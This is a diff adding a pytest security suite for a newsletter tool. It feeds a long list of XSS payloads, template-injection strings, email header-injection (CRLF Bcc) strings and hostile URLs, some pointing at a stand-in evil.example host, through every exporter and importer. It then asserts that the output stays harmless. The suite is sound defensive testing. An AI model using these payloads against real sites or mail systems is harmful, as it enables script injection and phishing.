@@ -1,0 +1,506 @@
+"""Known attacks on programs that write HTML and mail, through every text of an issue and out again.
+
+Nothing an editor types or an import brings may become markup, a script, a header or an address that
+runs something; the words themselves stay readable.
+"""
+
+import email.policy
+import functools
+import html as html_module
+import re
+from dataclasses import dataclass, field, replace
+from email.message import EmailMessage
+from html.parser import HTMLParser
+
+import pytest
+
+from crank_desktop.document.compose import compose
+from crank_desktop.document.portable import (
+    AnalysisItem,
+    Banner,
+    Editor,
+    Footer,
+    HighlightItem,
+    LinkItem,
+    Masthead,
+    Outlet,
+    Picture,
+    PortableIssue,
+    Section,
+    SocialLink,
+)
+from crank_desktop.document.portable_json import from_json, to_json
+from crank_desktop.errors import InputRefused
+from crank_desktop.exports.formats import FORMATS
+from crank_desktop.importing.markdown_file import read_our_markdown
+from crank_desktop.importing.reader import Shape, read_issue
+from crank_desktop.model.kinds import ItemKind, SectionKind
+from crank_desktop.render.options import RenderOptions
+from crank_desktop.sources.outlets import shipped_outlets
+from tests.golden.complete_issue import ISSUE, options
+
+VECTORS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/x>alert(1)</script >",
+    "<<script>alert(1)//<</script>",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<img/src='x'/onerror='alert(1)'>",
+    '<img src="x" onerror\n=\n"alert(1)">',
+    "<img src=x:x onerror&equals;alert(1)>",
+    '" onmouseover="alert(1)',
+    "' onfocus=alert(1) autofocus='",
+    '"style="background:url(javascript:alert(1))"',
+    "<body onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
+    '<math href="javascript:alert(1)">x</math>',
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<form action=//evil.example><input name=password>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<base href=//evil.example/>",
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import'//evil.example/x.css';</style>",
+    '<div style="width:expression(alert(1))">',
+    '<p style="background:url(//evil.example/x.png)">',
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
+    "<a href='java&#x09;script:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "[x](//evil.example/x)",
+    '[x](https://evil.example/"onmouseover="alert(1))',
+    "[x](https://evil.example/'onmouseover='alert(1))",
+    "![x](https://evil.example/x.png)",
+    "<javascript:alert(1)>",
+    "<https://evil.example/\"onmouseover='alert(1)'>",
+    "[x]: javascript:alert(1)",
+    "<!--[if mso]><script>alert(1)</script><![endif]-->",
+    "<![endif]--> <!-- ",
+    "--> <script>alert(1)</script> <!--",
+    "<!-- never closed",
+    '<!--"0--><!--/"0-->',
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 7 * 7 ?>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
+    "<plaintext>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<p",
+    "</td></tr></table></div>",
+    "{{ 7 * 7 }} {% for x in [1] %}{{ x }}{% endfor %} {# gone #}",
+    "{{ config.items() }}${7 * 7}#{7 * 7}<%= 7 * 7 %>",
+    "*|IF:<script>alert(1)</script>|*",
+    '*|HTML:"><img src=x onerror=alert(1)>|*',
+    "*|IF:A <1 onload=alert(1)>|*",
+    "*|A:&lt;script&gt;alert(1)&lt;/script&gt;|*",
+    "%%{<script>alert(1)</script>}%%",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&amp;lt;script&amp;gt;",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<img\x0bsrc=x\x0conerror=alert(1)>",
+    "\u202egnp.exe\u202c \u2066<b>\u2069",
+    "\u2028<script>alert(1)</script>\u2029",
+    "x\r\nBcc: victim@example.org",
+    "x\nContent-Type: text/html\n\n<script>alert(1)</script>",
+    "x\r\n\r\n--boundary\r\nContent-Type: text/html",
+    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
+    "=_boundary--",
+)
+ADDRESSES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "\x01javascript:alert(1)",
+    " javascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "javascript://example.org/%0Aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "blob:https://example.org/x",
+    "view-source:javascript:alert(1)",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "https:\\\\evil.example",
+    "https://",
+    'https://example.org/"onmouseover="alert(1)',
+    "https://example.org/'onmouseover='alert(1)",
+    "https://example.org/><script>alert(1)</script>",
+    "https://example.org/\r\nBcc: victim@example.org",
+    "mailto:a@example.org\r\nBcc: victim@example.org",
+    "mailto:javascript:alert(1)",
+    "*|IF:<script>|*",
+    "{{ 7 * 7 }}",
+)
+MAY_STAND_IN_HREF = re.compile(
+    r"https?://[^\s\"<>\\]+|mailto:[^\s\"<>\\]+|\*\|[A-Z_]+\|\*|april%20ferry\.jpg", re.IGNORECASE
+)
+HEADERS = (
+    *("From", "Reply-To", "To", "Subject", "Date", "List-Unsubscribe", "List-Unsubscribe-Post"),
+    *("Message-ID", "MIME-Version", "Content-Type"),
+)
+HTML = ("email", "web", "web-fragment")
+TEXTS = ("text", "text-mailchimp", "web-text")
+
+
+@dataclass
+class Skeleton(HTMLParser):
+    """What a page is made of besides its words: tags with their attributes' names, and comments."""
+
+    tags: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)
+    ends: list[str] = field(default_factory=list)
+    others: list[str] = field(default_factory=list)
+    links: list[str] = field(default_factory=list)
+    words: list[str] = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        super().__init__()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, tuple(name for name, _ in attrs)))
+        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
+        self.words += [value or "" for name, value in attrs if name in {"alt", "content"}]
+
+    def handle_endtag(self, tag: str) -> None:
+        self.ends.append(tag)
+
+    def handle_data(self, data: str) -> None:
+        self.words.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        self.others.append(data)
+
+    def handle_decl(self, decl: str) -> None:
+        self.others.append(decl)
+
+    def handle_pi(self, data: str) -> None:
+        self.others.append(data)
+
+    def unknown_decl(self, data: str) -> None:
+        self.others.append(data)
+
+    @property
+    def text(self) -> str:
+        """All words, blanks between them made one."""
+        return plain("".join(self.words))
+
+
+def skeleton(page: str) -> Skeleton:
+    found = Skeleton()
+    found.feed(page)
+    found.close()
+    return found
+
+
+def plain(words: str) -> str:
+    """Words as a page can hold them: without control characters, blanks made one."""
+    return " ".join(re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", words).split())
+
+
+def filled(words: str, address: str = "https://example.org/x") -> PortableIssue:
+    """An issue with these words in every text and this address in every place for one."""
+    analysis = AnalysisItem(
+        title=f"Title {words}", url=address, authors=(f"Ann {words}", words), institution=words
+    )
+    perspective = replace(
+        analysis, kind=ItemKind.PERSPECTIVE, authors=(), byline=f"By {words}", note=words
+    )
+    outlets = (Outlet(name=f"Outlet {words}", url=address), Outlet(name=words))
+    return PortableIssue(
+        newsletter=f"Call {words}",
+        label=f"May {words}",
+        subject=f"Subject {words}",
+        preheader=f"Preview {words}",
+        intro=f"Intro {words}",
+        image=Picture(
+            credit=f"Credit {words}", alt=f"Alt {words}", url="https://example.org/a.png", width=9
+        ),
+        sections=(
+            Section(
+                kind=SectionKind.HIGHLIGHTS,
+                heading=f"Highlights {words}",
+                items=(HighlightItem(heading=f"Heading {words}", body=f"Body {words}"),),
+            ),
+            Section(
+                kind=SectionKind.LINKS,
+                heading=f"Links {words}",
+                items=(LinkItem(text=f"Text {words}", outlets=outlets),),
+            ),
+            Section(kind=SectionKind.ANALYSIS, heading=f"Analysis {words}", items=(analysis,)),
+            Section(kind=SectionKind.PERSPECTIVES, heading=words, items=(perspective,)),
+        ),
+        banner=Banner(url=address, alt=words),
+        masthead=Masthead(
+            name=f"Call {words}",
+            editors=(Editor(role=f"Editor {words}", name=f"Eve {words}", email=words),),
+        ),
+        footer=Footer(
+            organisation=f"Center {words}",
+            address=(f"Street {words}", words),
+            copyright_year=2031,
+            social=(SocialLink(name=f"Place {words}", url=address),),
+            preferences_url=address,
+            unsubscribe_url="https://example.org/u",
+        ),
+    )
+
+
+def without_markdown(issue: PortableIssue) -> PortableIssue:
+    """The issue with its three Markdown texts emptied of what Markdown may read."""
+    highlights, links, *others = issue.sections
+    return replace(
+        issue,
+        intro="Intro",
+        sections=(
+            replace(highlights, items=(replace(highlights.items[0], body="Body"),)),
+            replace(links, items=(replace(links.items[0], text="Text"),)),
+            *others,
+        ),
+    )
+
+
+def written(issue: PortableIssue, name: str, service: str = "plain") -> str:
+    content = FORMATS[name].render(compose(issue), chosen(service))
+    return content.decode() if isinstance(content, bytes) else content
+
+
+@functools.cache
+def chosen(service: str) -> RenderOptions:
+    return options(service)
+
+
+@functools.cache
+def used_by_layout(name: str) -> frozenset[tuple[str, tuple[str, ...]]]:
+    """Every element, with its attributes' names, that an issue in which all stands once needs."""
+    issues = (ISSUE, filled("words"), replace(filled("words"), image=Picture(credit="words")))
+    prose = replace(
+        filled("words"),
+        intro="*a* **b** [c](https://example.org)  \nd\n\n> q\n\n- u\n\n1. o\n\n- a\n\n    b",
+    )
+    pages = [written(one, name) for one in (*issues, prose)]
+    return frozenset(tag for page in pages for tag in skeleton(page).tags)
+
+
+def assert_harmless(page: str, name: str) -> Skeleton:
+    """No element or attribute that is not the layout's own, no address that runs something."""
+    found = skeleton(page)
+    assert set(found.tags) - used_by_layout(name) == set()
+    assert [one for one in found.links if not MAY_STAND_IN_HREF.fullmatch(one)] == []
+    assert not [tag for tag, names in found.tags for each in names if each.startswith("on")]
+    return found
+
+
+def message(content: bytes) -> EmailMessage:
+    found = email.message_from_bytes(content, policy=email.policy.default)
+    assert isinstance(found, EmailMessage)
+    assert [defect for part in found.walk() for defect in part.defects] == []
+    return found
+
+
+@pytest.mark.parametrize("name", HTML)
+@pytest.mark.parametrize("vector", VECTORS)
+def test_page_with_an_attack_in_every_text_is_built_of_the_same_parts(
+    vector: str, name: str
+) -> None:
+    attacked = skeleton(written(without_markdown(filled(vector)), name))
+    harmless = skeleton(written(without_markdown(filled("words")), name))
+    assert attacked.tags == harmless.tags
+    assert attacked.ends == harmless.ends
+    assert len(attacked.others) == len(harmless.others)
+    assert [one for one in attacked.links if not MAY_STAND_IN_HREF.fullmatch(one)] == []
+
+
+@pytest.mark.parametrize("name", HTML)
+@pytest.mark.parametrize("vector", VECTORS)
+def test_attack_keeps_its_words_and_gets_nothing_else(vector: str, name: str) -> None:
+    page = written(filled(vector), name)
+    found = assert_harmless(page, name)
+    for words in ("Heading", "Outlet", "Title", "Ann", "By", "Credit", "Eve"):
+        assert plain(f"{words} {vector}") in found.text
+    assert "</html>" not in page.removesuffix("</html>\n")
+    assert "49" not in found.text
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_email_for_a_service_holds_no_more_than_its_layout(vector: str) -> None:
+    found = skeleton(written(without_markdown(filled(vector)), "email", "mailchimp"))
+    harmless = skeleton(written(without_markdown(filled("words")), "email", "mailchimp"))
+    assert (found.tags, found.ends) == (harmless.tags, harmless.ends)
+    assert found.others == harmless.others
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_message_has_its_own_headers_alone(vector: str) -> None:
+    content = FORMATS["eml"].render(compose(filled(vector)), chosen("plain"))
+    assert isinstance(content, bytes)
+    assert content.isascii()
+    head = content.partition(b"\r\n\r\n")[0].decode("ascii")
+    assert tuple(re.findall(r"^([^\s:]+):", head, re.MULTILINE)) == HEADERS
+    found = message(content)
+    assert tuple(found.keys()) == HEADERS
+    assert found["To"] == "Readers <readers@example.org>"
+    text, page = found.iter_parts()
+    assert isinstance(text, EmailMessage)
+    assert isinstance(page, EmailMessage)
+    assert (text.get_content_type(), page.get_content_type()) == ("text/plain", "text/html")
+    assert_harmless(page.get_content(), "email")
+
+
+@pytest.mark.parametrize("name", TEXTS)
+@pytest.mark.parametrize("vector", VECTORS)
+def test_text_formats_keep_the_words(vector: str, name: str) -> None:
+    text = plain(written(filled(vector), name).replace("\n", " "))
+    for words in ("Heading", "Title", "Eve"):
+        assert plain(f"{words} {vector}").replace(" ", "") in text.replace(" ", "")
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_json_gives_the_attack_back_as_it_was(vector: str) -> None:
+    issue = filled(vector, vector)
+    assert from_json(to_json(issue)) == issue
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_markdown_gives_the_attack_back_as_it_was(vector: str) -> None:
+    issue = filled(vector.replace("\r\n", "\n"), "https://example.org/x")
+    assert read_our_markdown(written(issue, "markdown")) == issue
+
+
+@pytest.mark.parametrize("name", HTML)
+@pytest.mark.parametrize("address", ADDRESSES)
+def test_address_that_runs_something_is_no_link(address: str, name: str) -> None:
+    issue = filled("words", address)
+    issue = replace(
+        issue,
+        image=replace(issue.image, url=address, file=None),
+        masthead=replace(issue.masthead, editors=(Editor(role="", name="E", email=address),)),
+        intro=f"Intro [words](<{address}>), [words]({address}) and <{address}>.",
+    )
+    found = assert_harmless(written(issue, name), name)
+    kept = [one for one in found.links if "alert" in one or "Bcc" in one]
+    assert all(one.startswith("https://example.org/") for one in kept), kept
+    assert "words" in found.text
+
+
+@pytest.mark.parametrize("address", ADDRESSES)
+def test_address_that_runs_something_starts_no_header(address: str) -> None:
+    issue = filled("words", address)
+    issue = replace(issue, footer=replace(issue.footer, unsubscribe_url=address))
+    content = FORMATS["eml"].render(compose(issue), chosen("plain"))
+    assert isinstance(content, bytes)
+    found = message(content)
+    assert set(found.keys()) <= set(HEADERS)
+    assert "alert" not in found.get("List-Unsubscribe", "").partition("https://example.org")[0]
+
+
+RULE = "-" * 60
+PAGE = """<!DOCTYPE html><html><head><title>Call | May 2031</title></head><body>
+<h2>May Highlights</h2><h3>A heading stands here {0}</h3><p>Prose {0} goes on
+<a href="https://example.org/1">here</a>.</p><h2>Links</h2><ul>
+<li>A sentence {0}. (<a href="https://example.org/2">Reuters</a>)</li></ul>
+<h2>Recent Analysis</h2><p><a href="{1}">A Title</a> (Ann Sample, {0})</p></body></html>"""
+PLAIN = f"""** May Highlights
+{RULE}
+
+
+** A heading stands here {{0}}
+{RULE}
+Prose {{0}} goes on here (https://example.org/1) .
+
+
+** Links
+{RULE}
+* A sentence {{0}}. (Reuters (https://example.org/2) )
+
+** Recent Analysis
+{RULE}
+A Title ({{1}}) (Ann Sample, {{0}})
+"""
+MARKDOWN = """# Call | May 2031
+
+## May Highlights
+
+### A heading stands here {0}
+
+Prose {0} goes on [here](https://example.org/1).
+
+## Links
+
+- A sentence {0}. ([Reuters](https://example.org/2))
+
+## Recent Analysis
+
+[A Title]({1}) (Ann Sample, {0})
+"""
+FILES = {Shape.HTML: PAGE, Shape.MAILCHIMP_TEXT: PLAIN, Shape.MARKDOWN: MARKDOWN}
+
+
+def imported(content: str, shape: Shape) -> PortableIssue | None:
+    """The issue; None where the file is refused, in one line."""
+    try:
+        return read_issue(content.encode(), shape, shipped_outlets())
+    except InputRefused as refusal:
+        assert "\n" not in str(refusal)
+        return None
+
+
+@pytest.mark.parametrize("shape", FILES)
+@pytest.mark.parametrize("vector", VECTORS)
+def test_attack_in_an_imported_file_ends_as_words(vector: str, shape: Shape) -> None:
+    issue = imported(FILES[shape].format(vector, "https://example.org/3"), shape)
+    if issue is None:
+        assert re.search("[\x00-\x08\x0e-\x1f]", vector)
+        return
+    for name in HTML:
+        found = assert_harmless(written(issue, name), name)
+        assert "A heading stands here" in found.text
+        assert "49" not in found.text
+
+
+@pytest.mark.parametrize("vector", [one for one in VECTORS if "\x00" not in one])
+def test_attack_written_as_words_on_a_page_comes_in_as_words(vector: str) -> None:
+    page = PAGE.format(html_module.escape(vector), "https://example.org/3")
+    issue = imported(page, Shape.HTML)
+    assert issue is not None
+    found = assert_harmless(written(issue, "email"), "email")
+    assert plain(f"A heading stands here {vector}") in found.text
+    assert plain(f"Prose {vector} goes on here") in found.text
+
+
+@pytest.mark.parametrize("shape", FILES)
+@pytest.mark.parametrize("address", ADDRESSES)
+def test_address_in_an_imported_file_runs_nothing(address: str, shape: Shape) -> None:
+    target = html_module.escape(address) if shape is Shape.HTML else address
+    issue = imported(FILES[shape].format("words", target), shape)
+    if issue is None:
+        assert re.search("[\x00-\x08\x0e-\x1f]", address)
+        return
+    for name in HTML:
+        found = assert_harmless(written(issue, name), name)
+        assert "A Title" in found.text
+    content = FORMATS["eml"].render(compose(issue), chosen("mailchimp"))
+    assert isinstance(content, bytes)
+    assert set(message(content).keys()) <= set(HEADERS)
